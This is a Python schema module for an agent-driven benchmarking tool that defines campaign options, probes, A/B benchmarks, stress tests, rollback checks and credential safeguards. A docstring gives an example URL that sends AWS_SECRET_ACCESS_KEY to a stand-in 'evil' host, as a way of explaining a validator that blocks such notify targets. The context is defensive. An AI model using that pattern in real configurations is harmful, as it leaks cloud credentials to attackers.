"""The campaign vocabulary (what the engineer writes) and the evidence the agent produces.

Measurement types live in `tools/`, gate and decision types in `policies/`; this module uses them.
"""

from __future__ import annotations

import re
from typing import Literal

from pydantic import BaseModel, ConfigDict, Field, StrictInt, field_validator, model_validator

from policies.oneline import OneLine
from policies.schema import NotifyTarget, env_refs
from tools.benchparse import ParserName, known_metric, metric_names, reports
from tools.failures import FailureTest
from tools.sweep import Slo
from tools.transport import Host

TEMPLATE_VAR = re.compile(r"\{\{\s*([A-Za-z_][A-Za-z0-9_]*)\s*\}\}")
BUILTIN_VARS = {"python", "campaign_dir", "workdir", "host", "num_prompts", "run", "session"}


class _Strict(BaseModel):
    model_config = ConfigDict(extra="forbid", use_attribute_docstrings=True)


class CommandSpec(_Strict):
    """A command and where it runs: a host name, a role, or `all`."""

    run: str = Field(min_length=1)
    """The shell command, run in the host's working directory; {{var}} templates are filled from `vars`, secrets and
    built-ins ({{python}}, {{workdir}}, {{host}}, {{session}}, {{campaign_dir}}, {{num_prompts}})."""
    on: str = "all"
    """Where it runs: a host name, a role, or `all` (every host)."""
    timeout: float = Field(default=60.0, gt=0, le=86_400)
    """Seconds before the command is killed and counted as timed out."""
    typical_s: float | None = Field(default=None, gt=0, le=86_400)
    """Seconds the command usually takes: `signoff check` counts the expected duration with it (without it, with what
    an earlier session of the campaign measured, else with the timeout). It never limits the command."""

    @model_validator(mode="after")
    def _typical_within_timeout(self) -> CommandSpec:
        if self.typical_s is not None and self.typical_s > self._typical_bound():
            raise ValueError(
                f"typical_s ({self.typical_s:g}) is above what the timeout allows ({self._typical_bound():g} s): "
                "the command would be killed before it usually ends"
            )
        return self

    def _typical_bound(self) -> float:
        return self.timeout


def _commands(value: object) -> object:
    # Shorthand: a bare string, or a list of strings, means commands on every host.
    if isinstance(value, str):
        return [{"run": value}]
    if isinstance(value, list):
        return [{"run": v} if isinstance(v, str) else v for v in value]
    return value


class Expectation(_Strict):
    """What a probe's result must look like."""

    exit: int | None = 0
    """The exit code the probe must end with; null accepts any."""
    stdout_contains: str | None = None
    """Text that must appear in the probe's stdout."""
    stdout_not_contains: str | None = None
    """Text that must not appear in the probe's stdout (e.g. a documented warning)."""


class Probe(CommandSpec):
    """A read-only check. When its expectation fails it implies a blocker (no-go) or a hazard."""

    name: OneLine
    """What the probe checks, as the report and gates name it."""
    expect: Expectation = Field(default_factory=Expectation)
    """What the probe's result must look like; anything else fails it."""
    on_fail: Literal["blocker", "hazard"] = "blocker"
    """What a failed probe means: `blocker` makes the option a no-go before anything is applied; `hazard` is a confirmed
    risk that makes the option unsafe."""
    message: str | None = None
    """Why a failure matters, in words shown with the blocker or hazard."""
    reproduced_by: list[OneLine] = Field(default_factory=list)
    """Only with `on_fail: hazard`: the stress scenarios (by `name`) that exercise this hazard. A bad outcome of one of
    them (wedge, dead, saturated, crash, leak) is the hazard reproduced (`hazard_reproduced`); nothing else is (an
    unrelated stress failure, a failed benchmark request, a post-stress check that lost ground make the option unsafe
    for their own reasons). Without it a confirmed hazard is never called reproduced."""
    timeout: float = Field(default=30.0, gt=0, le=3600)
    """Seconds before the probe is killed (a probe that times out has failed)."""


class Option(_Strict):
    """A candidate optimization: how to turn it on and off, how to tell it is on, and what to check first."""

    id: StrictInt = Field(ge=1, le=999)
    """The option's number (1-999); people name it at gates as #N."""
    title: OneLine = Field(min_length=1)
    """A short name for the option, shown everywhere it is."""
    hypothesis: str = ""
    """Why it should help: given to the language-model brain when it plans and investigates (the rules brain does not
    read it)."""
    expected_gain_pct: float | None = None
    """The gain you expect, in % of the metric; with a calibration it says how many pairs could show it."""
    risk: Literal["low", "medium", "high"] = "medium"
    """How risky you judge it: shown with the plan and given to the language-model brain. It is not the safety gate's
    `risk` fact, which the assessment works out from the evidence."""
    apply: list[CommandSpec] = Field(min_length=1)
    """Commands that turn the option on (a string or a list of strings or commands); also used to toggle between A/B
    arms."""
    revert: list[CommandSpec] = Field(min_length=1)
    """Commands that turn the option off again: used between A/B arms and for the rollback."""
    probes: list[Probe] = Field(default_factory=list)
    """Read-only checks run by the investigation before anything is applied."""
    check: CommandSpec | None = None
    """Read-only: exit 0 when the option is in effect on the host, non-zero when not. It confirms a rollback, and after
    a crash decides whether an apply or revert that was cut short took effect; without it, such a mutation opens the
    rollback gate. A string is a command with a 30 s timeout."""
    notes: str = ""
    """Anything else the language-model brain should know about the option when it plans (a note that starts with
    `proposed by ` marks an option a brain proposed)."""

    _cmds = field_validator("apply", "revert", mode="before")(_commands)

    @field_validator("check", mode="before")
    @classmethod
    def _check_shorthand(cls, value: object) -> object:
        return {"run": value, "timeout": 30} if isinstance(value, str) else value


class Goal(_Strict):
    """What the campaign is for, judged on one metric."""

    text: OneLine
    """The goal in words, e.g. `decode throughput at concurrency 90 up 20% on these hosts`."""
    metric: str = "output_tok_s"
    """The metric the goal is judged on; must equal `benchmark.metric`."""
    target_pct: float | None = None
    """The gain that meets the goal, in %; the report says how far the kept options got."""
    at: float | Literal["slo"] | None = None
    """With a sweep, the level the goal is judged at (one of `benchmark.sweep.values`), or `slo`: the highest level
    where the baseline still meets `benchmark.slo`. Default: the sweep's highest level."""


class Upload(_Strict):
    """A file copied from the campaign directory to each target host's working directory at setup."""

    src: str = Field(min_length=1)
    """The file's path relative to the campaign's directory; its bytes are kept with the session."""
    dest: str | None = None
    """Where to put it, relative to the host's working directory (default: the file's name); a destination outside it is
    asked about at a command gate."""
    on: str = "all"
    """Which hosts get it: a host name, a role, or `all`."""


class Baseline(_Strict):
    """The known-good state every option is measured against and rolled back to."""

    description: str = ""
    """The known-good configuration in words."""
    upload: list[Upload] = Field(default_factory=list)
    """Files copied from the campaign directory to hosts before setup."""
    setup: list[CommandSpec] = Field(default_factory=list)
    """Commands that bring every host to the baseline (a string or a list); a failure stops the run."""
    health: list[CommandSpec] = Field(default_factory=list)
    """Commands that must succeed on a healthy host: after setup (a failure stops the run), after every rollback, and
    when a stress or benchmark run overruns its deadline (failing there, the server is dead rather than wedged)."""
    alive: list[CommandSpec] = Field(default_factory=list)
    """Read-only commands that succeed while the server's process exists (e.g. a look at its pidfile's PID), run when
    the health checks fail at a deadline: a server whose process is there but does not answer is wedged, not dead."""

    _cmds = field_validator("setup", "health", "alive", mode="before")(_commands)


class SearchSpec(_Strict):
    """A bounded search, per arm, for the highest level of the sweep variable that meets the SLOs."""

    low: float = Field(gt=0)
    """The lowest level searched; an arm that fails its SLOs here has no capacity in the range."""
    high: float = Field(gt=0)
    """The highest level searched, probed first: an arm that meets its SLOs here needs no search."""
    steps: StrictInt = Field(default=6, ge=2, le=20)
    """Probes per arm at most; the journal shows the bracket each one left."""
    runs: StrictInt = Field(default=3, ge=2, le=10)
    """Benchmark runs per probe (the SLO is judged on their mean, with its 95% CI)."""
    integer: bool = True
    """Probe whole numbers (a concurrency); false searches a continuous variable such as a request rate."""

    @model_validator(mode="after")
    def _range(self) -> SearchSpec:
        if self.low >= self.high:
            raise ValueError(f"search.low ({self.low:g}) must be below search.high ({self.high:g})")
        return self


class SweepSpec(_Strict):
    """The A/B at several levels of one template variable (a load sweep), with a verdict per level."""

    var: str = Field(pattern=r"^[A-Za-z_][A-Za-z0-9_]*$")
    """The template variable the levels fill, e.g. `concurrency` used as {{concurrency}} in the benchmark's `run`.
    Commands outside the sweep (setup, stress, rollback checks) get its value from `vars`, or the goal's level."""
    values: list[float] = Field(min_length=1, max_length=12)
    """The levels, each measured as a whole interleaved A/B (ascending, no repeats)."""
    search: SearchSpec | None = None
    """Also search each arm for the highest level that meets the benchmark's `slo` (needs `slo`)."""
    fit: str | None = None
    """A per-step time the benchmark reports (ms), fitted per arm as fixed + per-unit × level over the sweep's runs
    (the gate facts `fixed_ms` and `per_request_ms`); null fits nothing. Default: `mean_tpot` with the vllm-json,
    sglang-jsonl, guidellm and aiperf parsers (time per output token ≈ one decode step), nothing with the others."""
    guardrails_at: Literal["all", "goal"] | float = "all"
    """Where the guardrails must hold: at every level of the sweep, only at the goal's level, or at the goal's level and
    the one named (e.g. 90: the latency a peak load must keep)."""

    @field_validator("values")
    @classmethod
    def _ascending(cls, values: list[float]) -> list[float]:
        if any(not v > 0 or v != v for v in values):
            raise ValueError("sweep values must be positive numbers")
        if values != sorted(set(values)):
            raise ValueError("sweep values must be ascending without repeats")
        return values

    @model_validator(mode="after")
    def _guarded_level(self) -> SweepSpec:
        at = self.guardrails_at
        if isinstance(at, float | int) and at not in self.values:
            shown = ", ".join(self.label(v) for v in self.values)
            raise ValueError(f"guardrails_at ({at:g}) is not one of the sweep's values ({shown})")
        return self

    def label(self, level: float) -> str:
        """A level as the command line gets it: 90, not 90.0."""
        return f"{level:g}" if level != int(level) else str(int(level))


class BenchSpec(CommandSpec):
    """The benchmark: a command whose output gives the metric, run in interleaved A/B pairs."""

    parser: ParserName = "vllm-json"
    """How the benchmark's stdout is read: vllm-json (vLLM's --save-result JSON), sglang-jsonl (the last line of
    SGLang's output file), guidellm (GuideLLM 0.8's JSON report, one benchmark), aiperf (AIPerf's
    profile_export_aiperf.json, schema 1.x), sysbench (its text report; a run with errors is invalid), json-path
    (`paths`) or regex (`patterns`)."""
    paths: dict[str, str] | None = None
    """For parser json-path: metric name → dotted path into the JSON the benchmark prints."""
    patterns: dict[str, str] | None = None
    """For parser regex: metric name → a regex with one group that captures the number."""
    num_prompts: StrictInt | None = Field(default=None, ge=1)
    """Requests per run: fills {{num_prompts}}, and a run that completed fewer is invalid."""
    metric: str = "output_tok_s"
    """The metric A/B-tested: output_tok_s, total_tok_s, req_s, duration_s, a latency such as p99_tpot or median_ttft
    (sysbench: tps, qps, events_s, p95_latency), or a name declared under `paths`/`patterns`."""
    higher_is_better: bool = True
    """Whether a larger value is better (throughput) or worse (latency, duration)."""
    pairs: StrictInt = Field(default=6, ge=2, le=50)
    """A/B pairs per option, interleaved AB BA AB … so that drift cancels out. Sequential: the look that judges as
    fixed-N does (the test may stop earlier, from min(pairs, 3) pairs); fixed-N: the pairs every A/B runs."""
    max_pairs: StrictInt = Field(default=10, ge=2, le=50)
    """The budget: a sequential A/B stops here at the latest; fixed-N extends an inconclusive first verdict to it
    (once)."""
    sequential: bool = True
    """Stop each A/B as soon as its verdict is decided: after every pair from min(pairs, 3) on, an always-valid
    confidence sequence (Lai's t-mixture, 95%) on the paired log-ratios decides improved, regressed or equivalent,
    or the A/B stops as futile (its expected gain, or the gain so far, cannot clear noise_pct within max_pairs);
    the paired t still judges at `pairs` and `max_pairs`, as fixed-N would. A sweep's levels (their runs also fit the
    step-time model and judge SLOs) run at least `pairs`, a benchmark over several hosts (each host judged on its
    own) at least 5. Each verdict says how many pairs it took and why it stopped. false: fixed-N (`pairs`, one
    extension to `max_pairs`)."""
    noise_pct: float = Field(default=1.0, ge=0)
    """The smallest effect, in %, the verdict calls improved or regressed: the CI must clear ±noise_pct."""
    equivalence_pct: float | None = Field(default=None, ge=0)
    """An effect whose whole CI lies within ±this % is `no_effect` (default: the calibrated noise floor, at least 1%).
    """
    guardrails: list[str] = Field(default_factory=list)
    """Latency metrics (lower is better, e.g. p99_tpot) that must not get measurably slower: a win that breaches one
    is not a win, and a run whose output lacks one is not a data point."""
    guardrail_pct: float = 5.0
    """How much worse, in %, a guardrail may get before a measured slowdown breaches it."""
    restart: str | None = None
    """Run before every benchmark run in both arms (on the benchmark's hosts, with its timeout), e.g. to restart the
    server; when it fails, that run is invalid. The post-stress runs skip it."""
    warmup: str | None = None
    """Run before every benchmark run in both arms, after `restart`; when it fails, that run is invalid."""
    calibrate_pairs: StrictInt = Field(default=0, ge=0, le=20)
    """A/A pairs measured at setup: the run's own noise floor, which every later band is judged against (4-6
    recommended; 0 leaves it to the A/B's spread)."""
    post_stress_runs: StrictInt = Field(default=0, ge=0, le=10)
    """Pairs of runs after the stress tests, the option's arm and the baseline's interleaved (the option toggled as in
    the A/B): the option's arm losing ground to the baseline's since the A/B is `degraded`; both slower is the machine
    (a neighbour, or damage a revert does not undo), said as such, and the safety verdict `unknown`."""
    timeout: float = Field(default=600.0, gt=0, le=86_400)
    """Seconds before a benchmark run is killed (the run is then invalid)."""
    typical_s: float | None = Field(default=None, gt=0, le=3 * 86_400)
    """Seconds one benchmark run usually takes, its `restart` and `warmup` included: `signoff check` counts the
    expected duration with it (without it, with what an earlier session of the campaign measured, else with the
    timeout). It never limits a run."""
    sweep: SweepSpec | None = None
    """Run the A/B at several levels of a template variable (e.g. concurrency 30, 60, 90): a verdict per level, the
    goal judged at `goal.at`, each arm's SLO capacity and a fitted step-time model."""
    slo: list[str] = Field(default_factory=list)
    """Service-level objectives on metrics each run reports, e.g. `p99_tpot_ms <= 50`: each arm's goodput at a level is
    its metric where it meets them (95% CI of the mean inside the bound) and 0 where it does not."""

    @field_validator("slo", mode="before")
    @classmethod
    def _one_slo(cls, value: object) -> object:
        return [value] if isinstance(value, str) else value

    @field_validator("slo")
    @classmethod
    def _slos(cls, value: list[str]) -> list[str]:
        for text in value:
            slo = Slo.parse(text)
            if not is_known_metric(slo.metric):
                raise ValueError(
                    f"SLO {text!r}: unknown metric {slo.metric!r} (a latency such as p99_tpot or p99_ttft)"
                )
        return value

    def slos(self) -> list[Slo]:
        return [Slo.parse(t) for t in self.slo]

    def _typical_bound(self) -> float:
        return self.timeout * (1 + (self.restart is not None) + (self.warmup is not None))

    @model_validator(mode="after")
    def _pairs(self) -> BenchSpec:
        if self.max_pairs < self.pairs:
            raise ValueError(f"max_pairs ({self.max_pairs}) is below pairs ({self.pairs})")
        declared = set(self.paths or {}) | set(self.patterns or {})
        for name in [self.metric, *self.guardrails]:
            if not is_known_metric(name) and name not in declared:
                raise ValueError(
                    f"unknown metric {name!r}: use output_tok_s, total_tok_s, req_s, duration_s, request_goodput, or a "
                    "latency such as p99_tpot / median_ttft / mean_itl / p99_e2e (or declare it under paths/patterns)"
                    if self.parser in ("json-path", "regex")
                    else f"unknown metric {name!r}: parser {self.parser} reports {metric_names(self.parser)}"
                )
        if self.parser == "json-path" and not self.paths:
            raise ValueError("parser json-path needs `paths` (field → dotted path)")
        if self.parser == "regex" and not self.patterns:
            raise ValueError("parser regex needs `patterns` (field → regex with one group)")
        for field, pattern in (self.patterns or {}).items():
            _compiles(pattern, f"patterns.{field}")
        if self.sweep and "fit" not in self.sweep.model_fields_set and self.parser in _TPOT_PARSERS:
            self.sweep.fit = "mean_tpot"
        self._reported()
        if self.parser in ("json-path", "regex"):
            # The generic parsers read only what they are told to: a metric named elsewhere but declared under
            # neither would leave every run without it (no data point, or no fit), a broken measurement.
            named = [self.metric, *self.guardrails, *(s.metric for s in self.slos())]
            named += [self.sweep.fit] if self.sweep and self.sweep.fit else []
            missing = [n for n in dict.fromkeys(named) if n not in declared]
            if missing:
                where = "paths" if self.parser == "json-path" else "patterns"
                raise ValueError(
                    f"parser {self.parser} reads only what `{where}` declares; declare {', '.join(missing)} there"
                    + (" (or drop sweep.fit)" if self.sweep and self.sweep.fit in missing else "")
                )
        if self.sweep and self.sweep.search and not self.slo:
            raise ValueError("sweep.search looks for the highest level that meets the SLO: set benchmark.slo")
        if self.sweep and self.sweep.fit and not is_known_metric(self.sweep.fit) and self.sweep.fit not in declared:
            raise ValueError(f"sweep.fit: unknown metric {self.sweep.fit!r} (e.g. mean_tpot)")
        return self

    def _reported(self) -> None:
        """A tool parser reports a fixed set of metrics: naming one it never reports (sysbench's output_tok_s, the
        default metric) would leave every run without it, so the campaign is refused here, not after the runs."""
        named = {
            "metric": [self.metric],
            "guardrails": self.guardrails,
            "slo": [s.metric for s in self.slos()],
            "sweep.fit": [self.sweep.fit] if self.sweep and self.sweep.fit else [],
        }
        for where, names in named.items():
            if missing := [n for n in names if reports(self.parser, n) is False]:
                raise ValueError(
                    f"{where}: parser {self.parser} does not report {', '.join(missing)}; it reports "
                    f"{metric_names(self.parser)}"
                )


def is_known_metric(name: str) -> bool:
    """A metric some built-in parser reports (which one reports it is checked against the campaign's parser)."""
    return known_metric(name)


# parsers whose time per output token is a decode step's (the sweep's default step-time fit)
_TPOT_PARSERS = ("vllm-json", "sglang-jsonl", "guidellm", "aiperf")


def _compiles(pattern: str, where: str) -> None:
    try:
        re.compile(pattern)
    except re.error as exc:
        raise ValueError(f"{where}: {pattern!r} is not a valid regex: {exc}") from None


STRESS_CHECK_TIMEOUT_S = 60.0  # the timeout of a stress test's `check`


class StressSpec(CommandSpec):
    """A stress scenario run on every option after its A/B; a hang, crash or failed check makes it unsafe."""

    name: OneLine
    """The stress scenario's name, as reports and gates show it."""
    runs: StrictInt = Field(default=1, ge=1, le=100)
    """How many times it runs per option."""
    timeout: float = Field(default=300.0, gt=0, le=86_400)
    """Deadline in seconds: a run past it is killed and counted against the option as a wedge (alive and silent),
    saturated (still printing) or dead (the health checks fail)."""
    diagnose: str | None = None
    """Run on the same host when a run overruns its deadline, before the kill (e.g. a py-spy dump): the evidence a wedge
    leaves."""
    diagnose_timeout: float = Field(default=30.0, gt=0, le=600)
    """Seconds the `diagnose` command may take."""
    crash_patterns: list[str] | None = None
    """Regexes that mark a crash in the output, added to the built-in engine crash and watchdog signatures (they never
    switch those off)."""
    check: str | None = None
    """Run on the same host after each run that finished cleanly (60 s timeout): a non-zero exit means the server did
    not come back clean, the outcome `leak`, which makes the option unsafe."""
    typical_s: float | None = Field(default=None, gt=0, le=86_400)
    """Seconds one run usually takes, its `check` included: `signoff check` counts the expected duration with it
    (without it, with what an earlier session of the campaign measured, else with the timeout)."""

    def _typical_bound(self) -> float:
        return self.timeout + (STRESS_CHECK_TIMEOUT_S if self.check else 0.0)

    @model_validator(mode="after")
    def _patterns(self) -> StressSpec:
        for i, pattern in enumerate(self.crash_patterns or []):
            _compiles(pattern, f"crash_patterns[{i}]")
        return self


class RollbackSpec(_Strict):
    """How a rollback (and the post-stress check) is verified. Bands come from the noise measured in the
    run (agent/exec/verification.py); `tolerance_pct` is only the band when there is no noise estimate."""

    verify_runs: StrictInt = Field(default=3, ge=1, le=20)
    """Benchmark runs after a revert that must match the baseline; also how many baseline runs are measured at setup
    as the known-good reference."""
    settle_runs: StrictInt = Field(default=6, ge=0, le=20)
    """When the first readings are not back, up to this many more, one at a time, judging the latest `verify_runs`: a
    revert that restarts a server reads cold for a while."""
    settle_wait_s: float = Field(default=10.0, ge=0, le=300)
    """The pause before each settling run, doubling from one run's length up to this many seconds (0: none)."""
    tolerance_pct: float = Field(default=5.0, gt=0)
    """The band, in %, used only when the run has no noise estimate at all."""
    floor_pct: float = Field(default=1.0, ge=0)
    """A noise band is never narrower than this, in %."""
    ceiling_pct: float = Field(default=20.0, gt=0)
    """A band wider than this (in %) cannot verify by the metric: the option's `check` decides alone."""

    @model_validator(mode="after")
    def _ordered(self) -> RollbackSpec:
        if self.floor_pct >= self.ceiling_pct:
            raise ValueError(f"floor_pct ({self.floor_pct:g}) must be below ceiling_pct ({self.ceiling_pct:g})")
        return self


class Price(_Strict):
    """US dollars per million tokens."""

    input: float = Field(ge=0)
    """US dollars per million input tokens."""
    output: float = Field(ge=0)
    """US dollars per million output tokens."""
    cache_write: float = Field(ge=0)
    """US dollars per million tokens written to the prompt cache."""
    cache_read: float = Field(ge=0)
    """US dollars per million tokens read from the prompt cache."""
    long_prompt_tokens: int | None = Field(default=None, ge=1)
    """A call whose prompt (input, cache write and cache read tokens) is longer than this is billed at
    `long_prompt_factor` times every rate, as Claude Haiku 5.5 is above 100K tokens; unset: one rate for any prompt."""
    long_prompt_factor: float = Field(default=1.0, ge=1)
    """How many times every rate a call costs once its prompt is longer than `long_prompt_tokens`."""


class BrainSpec(_Strict):
    """Which reasoning runs the campaign, and the limits of the language-model one."""

    kind: Literal["rules", "claude"] = "rules"
    """`rules` (offline, deterministic) or `claude` (the Anthropic API; needs ANTHROPIC_API_KEY or
    ANTHROPIC_AUTH_TOKEN)."""
    model: str = "claude-sonnet-5-5"
    """The Anthropic model the claude brain calls."""
    max_tokens: StrictInt = Field(default=2048, ge=256, le=64_000)
    """Output tokens per model call."""
    max_turns: StrictInt = Field(default=8, ge=1, le=50)
    """Tool-use turns per investigation subagent."""
    subagent_tokens: StrictInt = Field(default=60_000, ge=1_000)
    """Input plus output tokens one investigation subagent may spend."""
    timeout_s: float = Field(default=90.0, gt=0, le=900)
    """Seconds per model call."""
    max_retries: StrictInt = Field(default=4, ge=0, le=10)
    """Retries on 429, 5xx, overloaded and connection errors."""
    unavailable_after: StrictInt = Field(default=2, ge=1, le=10)
    """Model calls in a row that go unanswered (every attempt timed out, lost its connection or got a 5xx) before the
    model is given up: the steps after fall back to the rule brain, each journaled, and before the next option the
    `brain_unavailable` gate asks whether to go on with the rule brain, retry the model, or stop.
    After one such call the next gets a single attempt, so a hanging API costs max_retries + unavailable_after
    timeouts in all, not max_retries + 1 per step. Any answer (even a refusal, a 400 or a 429) starts the count
    again."""
    backoff_s: float = Field(default=1.0, ge=0, le=60)
    """The first retry's wait in seconds; it doubles, with jitter."""
    thinking_tokens: StrictInt | None = Field(default=None, ge=1024, le=32_000)
    """Extended thinking: the model reasons with up to this many tokens before each answer (billed as output, on top
    of max_tokens). Off by default. With it on, answers are asked for with tool choice `auto` (the API refuses
    thinking with a forced tool) and the schema still enforced (strict tools, then pydantic); a model whose
    capabilities say it cannot think is refused at preflight."""
    price: Price | None = None
    """Prices for the spend budget (default: the built-in table for known models)."""


class Fleet(_Strict):
    """How a command spreads over many hosts: at most `parallel[role]` members of a role run at once
    (the others wait their turn), and at most `max_parallel` hosts overall."""

    parallel: dict[str, StrictInt] = Field(default_factory=dict)
    """Role → how many of its hosts run a command at once (the others wait their turn)."""
    max_parallel: StrictInt = Field(default=32, ge=1, le=512)
    """Hosts that run commands at once, overall."""

    @field_validator("parallel")
    @classmethod
    def _positive(cls, value: dict[str, int]) -> dict[str, int]:
        bad = [role for role, n in value.items() if n < 1]
        if bad:
            raise ValueError(f"parallel must be at least 1 (role {', '.join(bad)})")
        return value


class CampaignNotifyTarget(NotifyTarget):
    """A `notify:` target in a campaign. A campaign is the file someone hands you, so it may not read
    the environment: `url: https://evil/?k={{env:AWS_SECRET_ACCESS_KEY}}` would send your secret with the
    first gate. Only the policy file (the operator's) may name environment variables."""

    @model_validator(mode="after")
    def _no_environment(self) -> CampaignNotifyTarget:
        if any(env_refs(t) for t in [self.url or "", *self.headers.values()]):
            raise ValueError(
                "a campaign's notify: cannot read the environment ({{env:NAME}}); put a target that needs a "
                "credential in the policy file's notify:"
            )
        return self


# The environment variables that are signoff's own credentials and settings (the model provider's key, the signing
# key, the team store's URL): a campaign is the file someone hands you, and naming one under `secrets:` would send it
# to that campaign's hosts.
OWN_CREDENTIALS = ("ANTHROPIC_", "SIGNOFF_")


class Campaign(_Strict):
    """A campaign: the goal, the hosts, the baseline, the benchmark, stress tests and numbered options."""

    name: OneLine
    """The campaign's name, shown in sessions and reports."""
    goal: Goal
    """What the campaign is for, and the metric and target it is judged on."""
    facts: list[OneLine] = Field(default_factory=list)
    """What you know about the system, one statement each: given to the language-model brain with the campaign (the
    rules brain does not read them)."""
    hosts: list[Host] = Field(min_length=1)
    """The machines commands run on."""
    vars: dict[str, str] = Field(default_factory=dict)
    """Template variables for commands, used as {{name}}; a value may use built-ins and other variables. A variable
    named like a secret (*_KEY, *_TOKEN, *_SECRET, *PASSWORD…) is masked in all output, and a session will not start
    while its value is a literal rather than a reference such as `{{HF_TOKEN}}` (use `secrets:`)."""
    secrets: list[str] = Field(default_factory=list)
    """Names of environment variables a command may use as {{NAME}}: passed on stdin, never on a command line, redacted
    everywhere; `run` refuses to start without them. signoff's own (ANTHROPIC_*, SIGNOFF_*) are never a host's."""
    baseline: Baseline = Field(default_factory=Baseline)
    """The known-good state: uploads, setup and health checks."""
    benchmark: BenchSpec
    """The A/B benchmark every option is measured with."""
    stress: list[StressSpec] = Field(default_factory=list)
    """Stress tests run on every option after its A/B: a hang, a crash or a failed check makes it unsafe."""
    rollback: RollbackSpec = Field(default_factory=RollbackSpec)
    """How a rollback is verified against the baseline."""
    brain: BrainSpec = Field(default_factory=BrainSpec)
    """Which reasoning runs the campaign (rules or claude) and its limits."""
    fleet: Fleet = Field(default_factory=Fleet)
    """How commands spread over many hosts."""
    notify: list[CampaignNotifyTarget] = Field(default_factory=list)
    """Told when a gate starts waiting for a person, before the policy's own notify: (no environment references; a
    `command:` target runs only when the policy's command rules allow it)."""
    options: list[Option] = Field(min_length=1)
    """The candidate optimizations, tried in order unless a person or the brain says otherwise."""
    confirm: bool | Literal["pairwise"] = True
    """When anything was kept: at the end, an interleaved A/B of the configuration the campaign started from (every kept
    option reverted, newest first, checked) against the final one, which judges the goal by its CI; with two or more
    kept, each option kept after the first is also measured on its own against the start, to tell whether they stack.
    The hosts end on the final configuration. `pairwise` also measures each pair of kept options (at most 4 kept).
    `false`: none of this, and the report says the goal is an estimate from the single gains."""

    @field_validator("secrets")
    @classmethod
    def _not_signoffs_own(cls, names: list[str]) -> list[str]:
        own = [n for n in names if n.upper().startswith(OWN_CREDENTIALS)]
        if own:
            raise ValueError(
                f"{own[0]} is signoff's own credential, never a host's: a campaign cannot send it to its hosts"
            )
        return names

    @field_validator("hosts")
    @classmethod
    def _hosts_inherit_none_of_signoffs_own(cls, hosts: list[Host]) -> list[Host]:
        for host in hosts:
            for name in host.inherit_env:
                stem = name.upper().rstrip("*")
                prefix = name.endswith("*")
                if any(stem.startswith(own) or (prefix and own.startswith(stem)) for own in OWN_CREDENTIALS):
                    raise ValueError(
                        f"host {host.name}: inherit_env {name!r} would hand signoff's own credentials "
                        "(ANTHROPIC_*, SIGNOFF_*) to the campaign's commands"
                    )
        return hosts

    @model_validator(mode="after")
    def _consistent(self) -> Campaign:
        if self.goal.metric != self.benchmark.metric:
            raise ValueError(
                f"goal.metric ({self.goal.metric}) differs from benchmark.metric "
                f"({self.benchmark.metric}); the goal is judged on what the benchmark measures"
            )
        return self

    def option(self, option_id: int) -> Option:
        for option in self.options:
            if option.id == option_id:
                return option
        raise KeyError(option_id)

    def targets(self, on: str) -> list[Host]:
        if on == "all":
            return list(self.hosts)
        named = [h for h in self.hosts if h.name == on]
        return named or [h for h in self.hosts if on in h.roles]


# ---- evidence (small, JSON-plain; bulky output lives in artifacts/) ----


class Finding(BaseModel):
    option: int
    feasible: bool
    blockers: list[str] = Field(default_factory=list)
    hazards: list[str] = Field(default_factory=list)  # confirmed: a failed hazard probe, a cited finding
    hazard_probes: list[str] = Field(default_factory=list)  # names of the failed hazard probes among `hazards`
    unchecked: list[str] = Field(default_factory=list)  # what it wanted to check and was not allowed to
    confidence: float = 0.0
    sources: list[str] = Field(default_factory=list)  # "host: command → exit N" / artifact refs
    summary: str = ""  # the investigator's own words (language-model brains)
    permission_requests: list[dict[str, str]] = Field(default_factory=list)  # {host, command} it could not run
    # A no-go only a model's reading found: no campaign probe failed behind it (text planted in a file it read could
    # say anything), so the triage gate's `model_only_nogo` counts it and a policy may ask a person about it.
    model_only: bool = False


class Assessment(BaseModel):
    option: int
    verdict: Literal["safe", "unsafe", "unknown"]
    ab_verdict: Literal["improved", "regressed", "no_effect", "inconclusive"]
    gain_pct: float | None
    ci: list[float] | None
    pairs: int
    wedges: int
    stress_errors: int
    failed_requests: int
    hazards: list[str]
    confidence: float
    hazard_reproduced: bool = False  # a stress scenario declared to exercise a confirmed hazard (reproduced_by) failed
    # Both arms' failed requests and the one-sided exact test (tools/failures.FailureTest); None: not counted.
    request_failures: FailureTest | None = None
    measurement_broken: bool = False  # the benchmark failed on the baseline too: nothing was measured
    risk: Literal["low", "medium", "high"]
    recommendation: Literal["keep", "skip", "ask"]
    reasons: list[str]
    rationale: str | None = None  # prose for the person at the gate; never changes the numbers above
    next_step: str | None = None  # the same, for the continue-or-ask gate that follows


class Plan(BaseModel):
    order: list[int]
    rationale: dict[int, str] = Field(default_factory=dict)
    proposals: list[Option] = Field(default_factory=list)  # new options; they enter only through the plan gate
